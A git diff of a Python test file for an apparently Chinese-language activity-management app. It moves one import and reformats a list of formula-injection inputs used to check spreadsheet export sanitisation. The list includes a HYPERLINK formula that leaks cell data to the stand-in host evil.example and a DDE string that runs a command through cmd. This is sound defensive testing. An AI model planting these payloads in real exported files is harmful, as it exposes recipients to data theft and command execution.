@@ -10,12 +10,19 @@ from lvzhi.activities import services
 from lvzhi.activities.models import Activity
 from lvzhi.activities.tests.factories import make_activity
 from lvzhi.core.capabilities import Role
-from lvzhi.core.taxonomy import ActivityKind
 from lvzhi.core.xlsx import put, safe_row, save
 from lvzhi.dashboard.tests.test_activity_stats import YEAR, held
+from lvzhi.ledger.taxonomy import ActivityKind
 from lvzhi.org.models import Member
 
-ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1",
+]
 
 
 def cells(content: bytes, sheet: str | None = None) -> list:
